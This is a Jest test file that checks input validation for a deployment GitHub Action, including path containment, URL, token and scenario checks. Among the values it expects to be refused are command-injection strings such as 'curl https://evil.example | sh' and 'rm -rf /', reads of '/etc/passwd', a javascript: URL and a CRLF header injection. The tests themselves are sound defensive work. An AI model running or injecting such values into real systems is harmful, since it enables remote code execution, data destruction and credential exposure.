/**
 * Every input is checked before the action touches the network, builds or deploys: each wrong value
 * is one ActionError naming the input, what is allowed and where to fix it.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'
import { readRunContext } from '../../src/context.js'
import { ActionError } from '../../src/errors.js'
import { INPUT_DEFAULTS, readInputs, type ActionInputs, type InputName } from '../../src/inputs.js'
import { checkSmokeScenario, resolvePlan } from '../../src/plan.js'
import { resourceNames } from '../../src/names.js'
import { pmcpRunDeployCommand } from '../../src/targets/pmcp-run/commands.js'
import { REPO_ROOT, writeConfig } from '../../testkit/workdir.js'

const envName = (name: string): string => `INPUT_${name.toUpperCase()}`

function withInputs<T>(values: Partial<Record<InputName, string>>, fn: () => T): T {
  const saved = { ...process.env }
  for (const name of Object.keys(INPUT_DEFAULTS)) delete process.env[envName(name)]
  for (const [name, value] of Object.entries(values)) process.env[envName(name)] = value
  try {
    return fn()
  } finally {
    process.env = saved
  }
}

let workspace: string
let outside: string

beforeAll(() => {
  workspace = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'pmcp-inputs-ws-')))
  outside = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'pmcp-inputs-out-')))
  fs.mkdirSync(path.join(workspace, 'servers', 'a'), { recursive: true })
  fs.symlinkSync(outside, path.join(workspace, 'escape'))
})

afterAll(() => {
  fs.rmSync(workspace, { recursive: true, force: true })
  fs.rmSync(outside, { recursive: true, force: true })
})

const read = (values: Partial<Record<InputName, string>>): ActionInputs => withInputs(values, () => readInputs(workspace))

/** The ActionError reading these inputs throws; fails the test when they are accepted. */
function refusal(values: Partial<Record<InputName, string>>): ActionError {
  try {
    read(values)
  } catch (error) {
    expect(error).toBeInstanceOf(ActionError)
    return error as ActionError
  }
  throw new Error(`expected ${JSON.stringify(values)} to be refused`)
}

function expectRefused(name: InputName, value: string, allowed: RegExp): void {
  const error = refusal({ [name]: value })
  expect(error.title).toBe(`Invalid input '${name}'`)
  expect(error.message).toContain(`Input '${name}' is '${value.trim()}'`)
  expect(error.message).toMatch(allowed)
  expect(error.message).toContain("Fix the 'with:' block")
}

describe('aws-region, checked like [aws] region', () => {
  it.each(['EU-WEST-1', 'eu-west', 'euwest1', 'eu west 1', 'us-east-1;id', 'https://eu-west-1'])('refuses %s', value => {
    expectRefused('aws-region', value, /an AWS region such as 'us-east-1'/)
  })

  it.each(['us-east-1', 'eu-central-2', 'us-gov-west-1', 'ap-southeast-5', 'cn-north-1'])('accepts %s', value => {
    expect(read({ 'aws-region': ` ${value} ` }).awsRegion).toBe(value)
  })
})

describe('pr-number', () => {
  it.each(['99999999999999999999999999', '2147483648', '0', '-1', '1.5', '1e3', '0x10', '042', 'abc', '#42'])('refuses %s', value => {
    expectRefused('pr-number', value, /a whole number from 1 to 2147483647/)
  })

  it('accepts a pull request number up to 2147483647, and names the preview after it', () => {
    expect(read({ 'pr-number': '42' }).prNumber).toBe(42)
    const largest = read({ 'pr-number': '2147483647' }).prNumber
    expect(largest).toBe(2147483647)
    expect(resourceNames('server', 'preview', String(largest)).stackName).toBe('server-pr2147483647-stack')
  })
})

describe('paths stay inside GITHUB_WORKSPACE', () => {
  it.each(['..', '../other-repo', 'servers/../../x', '/etc', '/'])('working-directory %s is refused', value => {
    const error = refusal({ 'working-directory': value })
    expect(error.title).toBe("Invalid input 'working-directory'")
    expect(error.message).toContain(`outside the workspace ${workspace}`)
  })

  it('a symbolic link out of the workspace is refused', () => {
    expect(refusal({ 'working-directory': 'escape' }).message).toContain(`which is ${outside}`)
    expect(refusal({ config: 'escape/deploy.toml' }).title).toBe("Invalid input 'config'")
  })

  it.each(['../../../deploy.toml', '/etc/passwd', '../../../tmp/x.toml'])(
    'config %s is refused (it is read relative to working-directory)',
    value => {
      expect(refusal({ 'working-directory': 'servers/a', config: value }).title).toBe("Invalid input 'config'")
    }
  )

  it('accepts paths inside, even through ..', () => {
    expect(read({ 'working-directory': 'servers/a' }).workingDirectory).toBe(path.join(workspace, 'servers', 'a'))
    expect(read({ 'working-directory': './servers/../servers/a', config: '../../deploy.toml' })).toMatchObject({
      workingDirectory: path.join(workspace, 'servers', 'a'),
      config: '../../deploy.toml'
    })
    expect(read({}).workingDirectory).toBe(workspace)
  })
})

describe('smoke-test-url', () => {
  it.each([
    'ftp://mcp.example.com',
    'mcp.example.com/mcp',
    'https://',
    'javascript:alert(1)',
    'https://mcp.example.com/a b',
    'file:///etc/passwd'
  ])('refuses %s', value => {
    expectRefused('smoke-test-url', value, /an http\(s\) URL of the MCP endpoint/)
  })

  it.each(['https://mcp.example.com/mcp', 'http://127.0.0.1:3000/mcp', 'https://abc.execute-api.eu-west-1.amazonaws.com/'])(
    'accepts %s',
    value => {
      expect(read({ 'smoke-test-url': value }).smokeTestUrl).toBe(value)
    }
  )
})

describe('inputs with a closed set of values or a number', () => {
  it.each([
    ['command', 'Deploy', /'deploy', 'synth', 'rollback', 'destroy', 'cleanup'/],
    ['target', 'lambda', /'aws-lambda', 'pmcp-run'/],
    ['environment', 'prod', /'production', 'preview'/],
    ['architecture', 'amd64', /'arm64', 'x86_64'/],
    ['hotswap', 'yes', /'auto', 'true', 'false'/],
    ['smoke-test', 'curl', /'mcp-tester', 'builtin', 'none'/],
    ['save-cache', 'sometimes', /'true', 'false', 'default-branch'/],
    ['cdk-bootstrap', 'yes', /'true' or 'false'/],
    ['rollback-on-failure', '1', /'true' or 'false'/],
    ['comment', 'no', /'true' or 'false'/],
    ['cache', 'on', /'true' or 'false'/],
    ['cache-on-failure', 'y', /'true' or 'false'/],
    ['fail-on-destructive-changes', 'maybe', /'true' or 'false'/],
    ['role-duration-seconds', '899', /900 to 43200/],
    ['role-duration-seconds', '1h', /900 to 43200/],
    ['smoke-test-timeout', '0', /1 to 900/],
    ['smoke-test-timeout', '901', /1 to 900/],
    ['smoke-test-timeout', '1e2', /1 to 900/],
    ['max-preview-age', '0', /14, 14d or 2w/],
    ['max-preview-age', '3 months', /14, 14d or 2w/],
    ['rollback-to', 'last week', /'previous', a Lambda version number such as '12', a commit SHA .* or a Cloud Run revision name/],
    ['rollback-to', 'Rev-1', /a Cloud Run revision name such as 'hello-run-00004-xyz'/],
    ['rollback-to', '0', /'previous', a Lambda version number/],
    ['role-to-assume', 'pmcp-deploy', /the ARN of an IAM role/],
    ['role-to-assume', 'arn:aws:iam::123:role/x', /the ARN of an IAM role/],
    ['cargo-lambda-version', '../../evil', /a release version such as '1\.8\.5'/],
    ['zig-version', '0.13.0/../x', /a release version/],
    ['mcp-tester-version', 'v 2', /a release version/],
    ['cargo-lambda-url', 'file:///tmp/cargo-lambda.tar.gz', /an http\(s\) URL with \{version\} and \{arch\}/],
    ['zig-url', 'ziglang.org/download', /an http\(s\) URL/],
    ['preview-id', '../../x; rm -rf /', /a git branch name such as 'feature\/login-page'/],
    ['preview-id', 'feature branch', /a git branch name/],
    ['production-branch', 'main..dev', /a git branch name such as 'main'/],
    ['production-branch', '-main', /a git branch name/],
    ['rust-toolchain', 'stable; curl https://evil.example | sh', /a rustup toolchain such as 'stable'/]
  ] as [InputName, string, RegExp][])('%s = %s is refused with what is allowed', (name, value, allowed) => {
    expectRefused(name, value, allowed)
  })

  it('accepts the documented forms', () => {
    expect(
      read({
        'rollback-to': 'A1B2C3D',
        'role-to-assume': 'arn:aws-us-gov:iam::123456789012:role/ci/pmcp-deploy',
        'zig-version': '0.14.0-dev.1+abc',
        'cargo-lambda-url': 'https://mirror.example.com/{version}/cargo-lambda-{arch}.tar.gz'
      })
    ).toMatchObject({
      rollbackTo: 'A1B2C3D',
      roleToAssume: 'arn:aws-us-gov:iam::123456789012:role/ci/pmcp-deploy',
      zigVersion: '0.14.0-dev.1+abc',
      cargoLambdaUrl: 'https://mirror.example.com/{version}/cargo-lambda-{arch}.tar.gz'
    })
    expect(read({ 'rollback-to': '12' }).rollbackTo).toBe('12')
    expect(
      read({ 'preview-id': 'feature/Login-Page', 'production-branch': 'refs/heads/release/2.x', 'rust-toolchain': 'nightly-2025-01-15' })
    ).toMatchObject({
      previewId: 'feature/Login-Page',
      productionBranch: 'release/2.x',
      rustToolchain: 'nightly-2025-01-15'
    })
  })
})

describe('tokens sent in an HTTP header', () => {
  it.each(['smoke-test-token', 'pmcp-client-id', 'pmcp-client-secret', 'pmcp-access-token', 'github-token'] as InputName[])(
    '%s with a line break is refused without repeating the value',
    name => {
      const error = refusal({ [name]: 'tok-en-value\r\nX-Injected: 1' })
      expect(error.title).toBe(`Invalid input '${name}'`)
      expect(error.message).toContain('line break or another control character')
      expect(error.message).not.toContain('tok-en-value')
      expect(error.message).not.toContain('X-Injected')
    }
  )

  it('a token on one line is kept as it is', () => {
    expect(read({ 'smoke-test-token': 'eyJhbGciOi.abc-_=', 'github-token': 'ghs_abc' })).toMatchObject({
      smokeTestToken: 'eyJhbGciOi.abc-_=',
      githubToken: 'ghs_abc'
    })
  })
})

describe('pmcp.run credentials, before anything is built', () => {
  it.each([
    [{ pmcpClientId: 'client-only' }, /Input 'pmcp-client-secret' is empty/],
    [{ pmcpClientSecret: 'secret-only' }, /Input 'pmcp-client-id' is empty/],
    [{}, /needs credentials: set 'pmcp-client-id' and 'pmcp-client-secret'/]
  ] as [Partial<ActionInputs>, RegExp][])('%j: refused before any phase runs', async (credentials, message) => {
    writeConfig(path.join(workspace, 'servers', 'a'), '[server]\nname = "hosted"\n[target]\ntype = "pmcp-run"\nversion = "1"\n')
    const inputs = { ...read({ 'working-directory': 'servers/a', target: 'pmcp-run' }), ...credentials }
    const plan = resolvePlan(inputs, { ...readRunContext({}), workspace }, { setByUser: ['target'], env: {} })
    const phases: string[] = []
    const deploy = pmcpRunDeployCommand(plan)
    const run = deploy.run({ plan, facts: { outputs: {} }, phase: (name, work) => (phases.push(name), Promise.resolve(work())) })
    await expect(run).rejects.toThrow(message)
    expect(phases).toEqual([])
  })
})

describe('smoke-test-scenario, before anything is built or deployed', () => {
  const scenarios = path.join(REPO_ROOT, 'testkit', 'fixtures', 'scenarios')

  function inputsWith(scenario: string, values: Partial<Record<InputName, string>> = {}): ActionInputs {
    return { ...read({ 'working-directory': 'servers/a', ...values }), smokeTestScenario: scenario }
  }

  function write(name: string, text: string): string {
    fs.writeFileSync(path.join(workspace, 'servers', 'a', name), text)
    return name
  }

  it('a missing file is refused for deploy and rollback', () => {
    for (const command of ['deploy', 'rollback']) {
      expect(() => checkSmokeScenario(inputsWith('missing.yaml', { command }), workspace)).toThrow(
        /Cannot read the scenario file .*missing\.yaml/
      )
    }
  })

  it('a file that is not YAML is refused with its line, for either engine', () => {
    const file = write('broken.yaml', 'name: x\nsteps:\n  - name: a\n   operation: [\n')
    for (const engine of ['mcp-tester', 'builtin']) {
      let thrown: unknown
      try {
        checkSmokeScenario(inputsWith(file, { 'smoke-test': engine }), workspace)
      } catch (error) {
        thrown = error
      }
      expect(thrown).toBeInstanceOf(ActionError)
      expect((thrown as ActionError).title).toBe('Invalid smoke-test scenario')
      expect((thrown as ActionError).location.line).toBeGreaterThan(1)
    }
  })

  it('the builtin engine also checks that it is a scenario it can run', () => {
    const file = write('empty-steps.yaml', 'name: x\nsteps: []\n')
    expect(() => checkSmokeScenario(inputsWith(file, { 'smoke-test': 'builtin' }), workspace)).toThrow(
      /'steps' must list at least one step/
    )
    expect(() => checkSmokeScenario(inputsWith(file, { 'smoke-test': 'mcp-tester' }), workspace)).not.toThrow()
  })

  it('a path out of the workspace is refused', () => {
    expect(() => checkSmokeScenario(inputsWith(path.join(scenarios, 'calculator.yaml')), workspace)).toThrow(
      /Input 'smoke-test-scenario'.*outside the workspace/
    )
  })

  it('a valid scenario passes; commands that run no smoke test, and smoke-test: none, do not read it', () => {
    const file = write('calculator.yaml', fs.readFileSync(path.join(scenarios, 'calculator.yaml'), 'utf8'))
    expect(() => checkSmokeScenario(inputsWith(file, { 'smoke-test': 'builtin' }), workspace)).not.toThrow()
    for (const command of ['synth', 'destroy', 'cleanup']) {
      expect(() => checkSmokeScenario(inputsWith('missing.yaml', { command }), workspace)).not.toThrow()
    }
    expect(() => checkSmokeScenario(inputsWith('missing.yaml', { 'smoke-test': 'none' }), workspace)).not.toThrow()
  })

  it('resolvePlan refuses it before the plan exists (nothing built, nothing deployed)', () => {
    writeConfig(path.join(workspace, 'servers', 'a'), '[server]\nname = "s"\n')
    const inputs = inputsWith('missing.yaml')
    expect(() => resolvePlan(inputs, { ...readRunContext({}), workspace }, { setByUser: [], env: {} })).toThrow(
      /Smoke-test scenario|Cannot read the scenario/
    )
    expect(
      resolvePlan({ ...inputs, smokeTestScenario: undefined }, { ...readRunContext({}), workspace }, { setByUser: [], env: {} }).names
        .stackName
    ).toBe('s-stack')
  })
})
